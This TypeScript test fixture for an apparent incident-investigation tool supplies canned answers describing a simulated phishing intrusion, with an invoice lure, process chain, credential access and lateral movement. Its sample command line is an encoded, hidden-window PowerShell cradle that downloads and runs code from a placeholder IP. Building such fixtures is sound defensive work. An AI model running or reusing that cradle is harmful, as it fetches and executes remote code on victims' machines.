import { sampleReply } from '../../support/sample-input.ts'
import type { MethodName } from '../../../core/contract/methods.ts'
import type { ResultOf } from '../../../core/contract/types.ts'
import type { Ask } from '../../../core/jobs/handlers.ts'
import type { EntityKind, RelationKind } from '../../../core/model/relation.ts'

type Answers = { [M in MethodName]?: (input: never) => ResultOf<M> }

const ZERO = '0'.repeat(64)
const hex = (seed: string): string =>
  [...Array(64).keys()]
    .map((i) => '0123456789abcdef'[(i * 7 + (seed.codePointAt(i % seed.length) ?? 0)) % 16])
    .join('')

export const emptyAnswers: Answers = {
  'case.info': () => ({
    name: 'empty.redthread',
    caseId: '11111111-2222-4333-8444-555555555555',
    createdAt: '2026-03-09T08:00:00.000Z',
    zone: 'Europe/Berlin',
    readOnly: false,
    schemaVersion: 10,
    toolVersion: '0.1.0',
    auditHead: ZERO,
    isDemo: false,
    counts: {
      evidence: 0,
      events: 0,
      messages: 0,
      messageCopies: 0,
      directoryObjects: 0,
      entities: 0,
      relations: 0,
      issues: 0,
    },
    correlationStale: false,
    failedRules: [],
  }),
  'locale.messages': () => ({}),
  'evidence.list': () => [],
  'audit.list': () => ({ rows: [], next: null, total: 0 }),
  'evidence.issues': () => ({ rows: [], next: null, total: 0 }),
  'audit.verify': () => ({ ok: true, entries: 0, head: ZERO, brokenAt: null }),
  'pack.list': () => [],
  'rule.list': () => [],
  'retro.list': () => [],
  'plan.list': () => ({ run: null, counts: { open: 0, approved: 0, declined: 0 }, items: [] }),
  'path.suggest': () => [],
  'mail.list': () => ({ rows: [], next: null, total: 0 }),
  'relation.list': () => ({ rows: [], next: null, total: 0 }),
  'event.histogram': () => ({ bucketSeconds: 60, from: null, to: null, undated: 0, buckets: [], kinds: [] }),
  'overview.get': () => ({
    counts: {},
    readiness: [],
    coverage: [],
    endpointsWithSensor: 0,
    endpointsWithoutSensor: [],
    mailClients: [],
    retro: null,
  }),
}

/** Texts that a full case takes from evidence; a test may put anything there. */
export interface Texts {
  readonly subject: string
  readonly senderName: string
  readonly url: string
  readonly user: string
  readonly endpoint: string
  readonly commandLine: string
  readonly raw: string
}

export const plainTexts: Texts = {
  subject: 'Rechnung 4711: 髙橋様 請求書のご確認',
  senderName: 'Accounts Payable 財務部',
  url: 'https://portal-login.example/invoice/view?id=4711&user=m.keller%40corp.example',
  user: 'CORP\\m.keller',
  endpoint: 'WS-042.corp.example',
  commandLine:
    '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA=',
  raw: '{\n  "EventID": 1,\n  "UtcTime": "2026-03-02 09:15:21.412",\n  "Image": "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",\n  "User": "CORP\\\\m.keller"\n}',
}

interface Step {
  readonly kind: RelationKind
  readonly to: readonly [EntityKind, string]
  readonly at: string | null
  readonly confidence: number
  readonly observed?: boolean
}

const times = (minute: number): string => `2026-03-02T09:${String(minute).padStart(2, '0')}:21.412345Z`

function steps(texts: Texts): readonly Step[] {
  return [
    { kind: 'links-to', to: ['url', texts.url], at: null, confidence: 1 },
    { kind: 'clicked-by', to: ['user', texts.user], at: times(12), confidence: 0.93 },
    { kind: 'logged-on-to', to: ['endpoint', texts.endpoint], at: times(13), confidence: 0.82 },
    { kind: 'ran-on', to: ['process', 'powershell.exe (4242)'], at: times(15), confidence: 0.95 },
    { kind: 'spawned', to: ['process', 'rundll32.exe (4711)'], at: times(16), confidence: 0.95 },
    { kind: 'remote-logon', to: ['endpoint', 'SRV-FILE01.corp.example'], at: times(41), confidence: 0.71 },
    { kind: 'admin-to', to: ['endpoint', 'DC01.corp.example'], at: null, confidence: 0.4, observed: false },
  ]
}

/** A case with one campaign: all the queries that sections ask, with fixed answers. */
export function fullAnswers(texts: Texts = plainTexts): Answers {
  const start = { id: '100', kind: 'message' as const, name: texts.subject }
  const nodes = [
    start,
    ...steps(texts).map((step, index) => ({ id: String(101 + index), kind: step.to[0], name: step.to[1] })),
  ]
  const node = (index: number) => nodes[index] ?? start
  const hops = steps(texts).map((step, index) => ({
    relationId: String(500 + index),
    from: node(index),
    to: node(index + 1),
    relation: step.kind,
    at: step.at,
    confidence: step.confidence,
    rule: 'fake-rule',
    observed: step.observed ?? true,
    reason: { key: 'rule.fake-rule.reason.seen', params: { what: node(index).name } },
    events: step.at === null ? [] : [String(900 + index)],
  }))
  const path = { confidence: 0.62, startAt: times(12), endAt: times(41), hops }
  const source = (record: number, evidenceId = '2') => ({ evidenceId, record, locator: `line ${record}` })
  const relation = (index: number) => {
    const hop = hops[index] ?? hops[0]
    if (!hop) throw new Error('no hop')
    return {
      id: hop.relationId,
      kind: hop.relation,
      from: hop.from,
      to: hop.to,
      firstAt: hop.at,
      lastAt: hop.at,
      count: 1,
      confidence: hop.confidence,
      observed: hop.observed,
      rule: hop.rule,
      reason: hop.reason,
      events: hop.events,
      eventTotal: hop.events.length,
    }
  }
  const mailbox = { id: '200', kind: 'mailbox' as const, name: 'm.keller@corp.example' }
  const endpoint = node(3)
  const user = node(2)
  const recipients = [
    {
      mailbox,
      address: 'm.keller@corp.example',
      user,
      deliveredAt: '2026-03-02T08:58:00.000Z',
      clickedAt: times(12),
      executedAt: times(15),
      perhaps: [],
      endpoint,
      loggedOnAt: times(13),
      recordedAction: null,
    },
    {
      mailbox: { id: '201', kind: 'mailbox' as const, name: 'a.brandt@corp.example' },
      address: 'a.brandt@corp.example',
      user: { id: '301', kind: 'user' as const, name: 'CORP\\a.brandt' },
      deliveredAt: '2026-03-02T08:58:01.000Z',
      clickedAt: null,
      executedAt: null,
      perhaps: [],
      endpoint: null,
      loggedOnAt: null,
      recordedAction: 'pass',
    },
    {
      mailbox: null,
      address: 'info@corp.example',
      user: null,
      deliveredAt: null,
      clickedAt: null,
      executedAt: null,
      perhaps: [],
      endpoint: null,
      loggedOnAt: null,
      recordedAction: 'quarantine',
    },
  ]
  const risk = { then: 'untested' as const, now: 'dangerous' as const }
  const message: ResultOf<'mail.get'> = {
    id: '100',
    messageId: 'a1b2c3@mailer.portal-login.example',
    subject: texts.subject,
    from: 'billing@portal-login.example',
    fromName: texts.senderName,
    sentAt: '2026-03-02T08:57:30.000Z',
    deliveredAt: '2026-03-02T08:58:00.000Z',
    mailboxes: 3,
    urls: 1,
    attachments: 1,
    risk,
    touched: true,
    replyTo: ['billing@portal-login.example'],
    returnPath: 'bounce@portal-login.example',
    hops: [],
    signals: [],
    history: [
      {
        mailbox: 'm.keller@corp.example',
        state: 'quarantined',
        steps: [
          {
            at: '2026-03-02T11:00:00.000Z',
            word: 'Quarantine',
            action: 'quarantined',
            from: 'delivered',
            to: 'quarantined',
            isPossible: true,
            succeeded: true,
            event: null,
            source: { evidenceId: '1', record: 7 },
          },
        ],
      },
    ],
    sourceIp: '198.51.100.7',
    sourceDomain: 'mailer.portal-login.example',
    authentication: { spf: 'softfail (sender IP is 198.51.100.7)', dkim: 'none', dmarc: null },
    headers: [],
    body: null,
    urlList: [
      {
        urlId: '1',
        entityId: '101',
        url: texts.url,
        rewritten: null,
        text: 'View invoice',
        where: 'body',
        attachment: null,
        risk,
        pack: 'urlhaus@2026-03-09',
        entry: 'portal-login.example',
      },
    ],
    attachmentList: [
      {
        entityId: null,
        name: 'Rechnung.html',
        contentType: 'text/html',
        bytes: 20481,
        sha256: hex('Rechnung'),
        sha1: null,
      },
    ],
    recipients,
    sources: [source(1, '1'), source(2, '1')],
  }
  const planItem = (
    id: string,
    state: 'open' | 'approved',
    mailbox: string,
  ): ResultOf<'plan.list'>['items'][number] => ({
    id,
    action: 'quarantine-message',
    target: {
      mailbox,
      messageId: null,
      uniqueId: null,
      subject: texts.subject,
      sender: null,
      deliveredAt: null,
      url: texts.url,
      account: null,
      endpoint: null,
      inboxRule: null,
      text: null,
    },
    subject: start,
    reasons: [
      {
        rule: 'W30',
        text: {
          key: 'plan.reason.newly',
          params: { url: texts.url, level: 'dangerous', pack: 'urlhaus@2026-03-09' },
        },
      },
    ],
    evidence: { messages: [start], relations: [], events: [] },
    state,
    note: state === 'open' ? '' : texts.senderName,
    decidedAt: state === 'open' ? null : '2026-03-09T10:00:00.000Z',
  })
  const evidence = (
    id: string,
    name: string,
    format: string,
    rejected: number,
  ): ResultOf<'evidence.list'>[number] => ({
    id,
    name,
    path: `/exports/${name}`,
    sha256: hex(name),
    bytes: 1234567,
    bytesRead: 1234567,
    format,
    confidence: 0.95,
    zone: 'UTC',
    zoneAssumed: id === '3',
    read: 1200 + rejected,
    stored: 1190,
    duplicate: 10,
    rejected,
    events: 1190,
    messages: 0,
    directoryObjects: 0,
    issues: rejected > 0 ? [{ code: `${format}.syntax`, count: rejected }] : [],
    status: rejected > 0 ? 'done-with-rejects' : 'done',
    error: null,
    seconds: 0.4,
    importedAt: '2026-03-09T08:01:00.000Z',
    firstAt: '2026-02-20T00:00:00.000Z',
    lastAt: '2026-03-08T23:59:59.000Z',
    stale: false,
  })
  const audit = (seq: number, action: string, evidenceId: string | null) => ({
    seq,
    at: `2026-03-09T08:0${seq}:00.000Z`,
    actor: 'analyst',
    action,
    details: { name: 'mail.json', bytes: 1234567 },
    evidenceId,
    hash: hex(`${seq}${action}`),
  })
  const auditRows = [
    audit(1, 'case.create', null),
    audit(2, 'evidence.imported', '1'),
    audit(3, 'evidence.imported', '2'),
    audit(4, 'retro.run', null),
    {
      ...audit(5, 'evidence.refuse', null),
      details: { name: 'notes.xyz', path: '/in/notes.xyz', code: 'evidence.unrecognised' },
    },
    // Taken in the end: no gap.
    {
      ...audit(6, 'evidence.refuse', null),
      details: { name: 'mail.json', path: '/exports/mail.json', code: 'evidence.date_order' },
    },
    { ...audit(7, 'evidence.refuse', null), details: { count: 12 } },
    // Two hosts have a file of one name, and so has one that was taken.
    ...['h2', 'h3'].map((host, index) => ({
      ...audit(8 + index, 'evidence.refuse', null),
      details: { name: 'mail.json', path: `/exports/${host}/mail.json`, code: 'evidence.empty' },
    })),
  ]
  const unreadMember = {
    id: '1',
    evidenceId: '3',
    evidenceName: 'directory.ldif',
    locator: 'table.csv',
    code: 'archive.needs_mapping',
    excerpt: '',
    records: 0,
    weight: 'remark' as const,
    record: null,
  }
  const beside = (
    id: string,
    kind: RelationKind,
    from: typeof start | (typeof nodes)[number],
    to: readonly [EntityKind, string],
    minute: number,
  ) => ({
    ...relation(4),
    id,
    kind,
    from,
    to: { id: `7${id}`, kind: to[0], name: to[1] },
    firstAt: times(minute),
    lastAt: times(minute),
    events: [`9${id}`],
    eventTotal: 1,
  })
  const besides = [
    beside('610', 'spawned', node(5), ['process', 'cmd.exe (5000)'], 17),
    beside('611', 'accessed-credentials', node(5), ['process', 'lsass.exe (700)'], 30),
    beside('612', 'connected-to', node(5), ['ip', '203.0.113.9'], 31),
    beside('613', 'connected-to', node(5), ['ip', '10.1.2.3'], 32),
    beside('614', 'installed-service', node(6), ['service', 'UpdSvc'], 45),
    {
      ...beside('615', 'installed-service', node(6), ['service', 'EarlierSvc'], 45),
      firstAt: '2026-03-01T00:00:00.000Z',
      lastAt: '2026-03-01T00:00:00.000Z',
    },
    {
      ...beside('616', 'wrote-registry', node(5), ['registry-key', 'HKCU\\Run\\Upd'], 33),
      from: { id: '7610', kind: 'process' as const, name: 'cmd.exe (5000)' },
    },
  ]
  const refused = (
    id: string,
    minute: number,
    kind: 'logon-failure' | 'ntlm-validation',
    status: string,
    account = kind === 'ntlm-validation' ? 'adm-keller' : 'CORP\\adm-keller',
  ): ResultOf<'event.search'>['rows'][number] => ({
    id,
    at: times(minute),
    kind,
    endpoint: node(7),
    user: null,
    summary: '',
    fields: {
      'source.host': 'SRV-FILE01',
      'user.name': account,
      'event.status': status,
      'event.outcome': 'failure',
    },
    evidenceId: '2',
    record: Number(id),
    locator: `record ${id}`,
  })
  const event = (id: string): ResultOf<'event.get'> => ({
    id,
    at: hops[Number(id) - 900]?.at ?? null,
    kind: 'process-start',
    endpoint,
    user,
    summary: texts.commandLine,
    fields: {},
    evidenceId: '2',
    record: Number(id),
    locator: `record ${id}`,
    source: source(Number(id)),
    zoneAssumed: false,
  })
  return {
    ...emptyAnswers,
    'case.info': () => ({
      name: 'portal-login.redthread',
      caseId: '11111111-2222-4333-8444-555555555555',
      createdAt: '2026-03-09T08:00:00.000Z',
      zone: 'Europe/Berlin',
      readOnly: false,
      schemaVersion: 10,
      toolVersion: '0.1.0',
      auditHead: hex('head'),
      isDemo: false,
      counts: {
        evidence: 3,
        events: 3570,
        messages: 412,
        messageCopies: 520,
        directoryObjects: 88,
        entities: 700,
        relations: 1500,
        issues: 3,
      },
      correlationStale: false,
      failedRules: [],
    }),
    'locale.messages': () => ({ 'rule.fake-rule.reason.seen': 'Seen with {what}.' }),
    'evidence.list': () => [
      evidence('1', 'mail.json', 'mail-sweep', 0),
      evidence('2', 'ws-042.jsonl', 'sysmon-json', 3),
      evidence('3', 'directory.ldif', 'ldif', 0),
    ],
    'audit.list': () => ({ rows: auditRows, next: null, total: auditRows.length }),
    'evidence.issues': (input: { code?: string | null }) => ({
      rows: input.code === 'archive.needs_mapping' ? [unreadMember] : [],
      next: null,
      total: 0,
    }),
    'audit.verify': () => ({ ok: true, entries: 4, head: hex('head'), brokenAt: null }),
    'pack.list': () => [
      {
        id: '1',
        name: 'urlhaus',
        version: '2026-03-01',
        createdAt: '2026-03-01T00:00:00.000Z',
        importedAt: '2026-03-09T08:02:00.000Z',
        source: 'urlhaus.csv',
        format: 'urlhaus-csv',
        sha256: hex('p1'),
        entries: 10000,
        rejected: 0,
        levels: [],
        number: 1,
        isOn: true,
        isCurrent: false,
        replacedBy: 'urlhaus@2026-03-09',
        precedence: null,
      },
      {
        id: '2',
        name: 'urlhaus',
        version: '2026-03-09',
        createdAt: '2026-03-09T00:00:00.000Z',
        importedAt: '2026-03-09T08:03:00.000Z',
        source: 'urlhaus.csv',
        format: 'urlhaus-csv',
        sha256: hex('p2'),
        entries: 10250,
        rejected: 0,
        levels: [],
        number: 2,
        isOn: true,
        isCurrent: true,
        replacedBy: null,
        precedence: 1,
      },
    ],
    'retro.list': () => [
      {
        id: '1',
        at: '2026-03-09T09:00:00.000Z',
        policy: 'default',
        counts: {
          messages: 412,
          urls: 382,
          judged: 380,
          notJudged: 2,
          links: 415,
          linksJudged: 412,
          turned: 1,
          excluded: 1,
        },
      },
    ],
    'retro.get': () => ({
      run: {
        id: '1',
        at: '2026-03-09T09:00:00.000Z',
        policy: 'default',
        packsThen: ['urlhaus@2026-03-01'],
        packsNow: ['urlhaus@2026-03-09'],
        base: null,
        whole: null,
        rated: 380,
        inputs: {
          rules: 1,
          policySha256: hex('policy'),
          isEffective: true,
          packsNow: [2],
          upTo: null,
          lastPack: 2,
          lastMessage: 412,
          mailSha256: hex('mail'),
        },
      },
      counts: {
        messages: 412,
        urls: 382,
        judged: 380,
        notJudged: 2,
        links: 415,
        linksJudged: 412,
        turned: 1,
        excluded: 1,
      },
      notJudged: [
        { reason: 'internal-domain', clause: 'W42', urls: 1, links: 2 },
        { reason: 'no-time', clause: null, urls: 1, links: 1 },
      ],
      turned: [
        {
          url: texts.url,
          urlEntity: node(1),
          from: 'untested',
          to: 'dangerous',
          pack: 'urlhaus@2026-03-09',
          entry: 'portal-login.example',
          decides: 'now',
          messages: 1,
        },
      ],
      newlyMatching: [
        {
          message: start,
          mailbox: 'm.keller@corp.example',
          url: texts.url,
          action: 'quarantine',
          clause: 'W30',
          matchedThen: false,
          state: 'delivered' as const,
          turnedAt: '2026-03-09T00:00:00.000Z',
        },
      ],
      noLongerMatching: [],
      excluded: [{ message: start, url: 'https://intranet.corp.example/', clause: 'W42' }],
      exposure: [
        {
          message: start,
          recipient: 'm.keller@corp.example',
          isRecipient: true,
          user,
          deliveredAt: '2026-03-02T08:58:00.000Z',
          clickedAt: times(12),
          executedAt: times(15),
          perhaps: [],
          endpoint,
          turnedAt: '2026-03-09T00:00:00.000Z',
          openedAt: null,
          blockedAt: null,
          clickedBefore: true,
          removedAt: null,
          dwellSeconds: 604_800,
          dwellUntil: null,
          dwellEnd: null,
          passedOn: [],
          relations: [],
          events: [],
        },
      ],
    }),
    'plan.list': () => ({
      run: { id: '1', at: '2026-03-09T09:00:00.000Z', policy: 'default' },
      counts: { open: 1, approved: 2, declined: 0 },
      items: [
        planItem('a', 'approved', 'm.keller@corp.example'),
        planItem('b', 'approved', 'j.braun@corp.example'),
        planItem('c', 'open', 'm.keller@corp.example'),
      ],
    }),
    'path.suggest': () => [
      {
        from: start,
        to: node(7),
        score: 0.8,
        reasons: [{ key: 'rule.fake-rule.reason.seen', params: { what: 'a message' } }],
        path,
      },
      {
        from: start,
        to: node(3),
        score: 0.5,
        reasons: [],
        path: { ...path, hops: hops.slice(0, 3), confidence: 0.8 },
      },
    ],
    'mail.get': () => message,
    'relation.get': ({ id }: { id: string }) => ({
      ...relation(Number(id) - 500),
      ruleInfo: null,
      proof: [],
      sources: [source(Number(id), id === '506' ? '3' : '1')],
    }),
    'relation.list': ({ kind, entityId }: { kind?: string | null; entityId?: string | null }) => ({
      rows:
        kind === 'delivered-to'
          ? [{ ...relation(0), to: mailbox }]
          : besides.filter((row) => row.kind === kind && row.from.id === entityId),
      next: null,
      total: null,
    }),
    'event.search': ({ text = '', entityId }: { text?: string; entityId?: string | null }) => ({
      rows:
        text.includes('source.host:"srv-file01"') && entityId == null
          ? [
              refused('920', 50, 'ntlm-validation', '0xC000006A'),
              refused('921', 51, 'logon-failure', '0xc000006a'),
              refused('922', 52, 'logon-failure', '0xc000006a'),
              refused('923', 53, 'logon-failure', '0xc000015b', 'CORP\\adm-other'),
              // From another machine with a longer name, and a check that did not fail.
              {
                ...refused('924', 54, 'logon-failure', '0xc000006a'),
                fields: { 'source.host': 'SRV-FILE012' },
              },
              {
                ...refused('925', 55, 'ntlm-validation', '0x0'),
                fields: { 'source.host': 'SRV-FILE01', 'event.outcome': 'success' },
              },
            ]
          : [],
      next: null,
      total: null,
      chips: [],
      searched: null,
    }),
    'event.get': ({ id }: { id: string }) => event(id),
    'event.histogram': () => ({
      bucketSeconds: 21600,
      from: '2026-02-20T00:00:00.000Z',
      to: '2026-03-08T23:59:59.000Z',
      undated: 4,
      buckets: Array.from({ length: 68 }, (_, index) => ({
        at: new Date(Date.UTC(2026, 1, 20) + index * 21600_000).toISOString(),
        count: (index * 37) % 101,
      })),
      kinds: [],
    }),
    'entity.get': ({ id }: { id: string }) => ({
      ...(nodes.find((one) => one.id === id) ?? start),
      firstSeenAt: null,
      lastSeenAt: null,
      attributes:
        id === '104'
          ? { sha256: hex('powershell'), path: 'C:\\Windows\\powershell.exe', endpoint: texts.endpoint }
          : {},
      relations: 3,
      risk: id === '101' ? 'dangerous' : null,
      aliases:
        id === '401'
          ? [
              {
                kind: 'fqdn',
                value: 'ws-099.corp.example',
                source: null,
                confidence: 1,
                reason: { key: 'rule.fake-rule.reason.seen', params: { what: 'it' } },
              },
            ]
          : [],
    }),
    'overview.get': () => ({
      counts: {},
      readiness: [
        {
          id: 'mail',
          state: 'partly',
          title: { key: 'rule.fake-rule.reason.seen', params: { what: 'mail' } },
          detail: { key: 'rule.fake-rule.reason.seen', params: { what: 'two of three mailboxes' } },
        },
      ],
      coverage: [],
      endpointsWithSensor: 3,
      endpointsWithoutSensor: [{ id: '401', kind: 'endpoint', name: 'WS-099' }],
      mailClients: [],
      retro: null,
    }),
    'record.get': ({ evidenceId, record }: { evidenceId: string; record: number }) => ({
      evidenceId,
      evidenceName: evidenceId === '1' ? 'mail.json' : 'ws-042.jsonl',
      sha256: hex(evidenceId),
      record,
      locator: `line ${record}`,
      raw: texts.raw,
      truncated: false,
      heading: null,
      alsoIn: [],
    }),
  }
}

/** An engine that knows only these answers. Anything else is the error a real one gives. */
export function fakeAsk(answers: Answers): Ask {
  return (method, input) => {
    const answer = answers[method]
    // What the case says nothing of is empty, so that a section may ask something new.
    return Promise.resolve((answer === undefined ? sampleReply(method) : answer(input as never)) as never)
  }
}
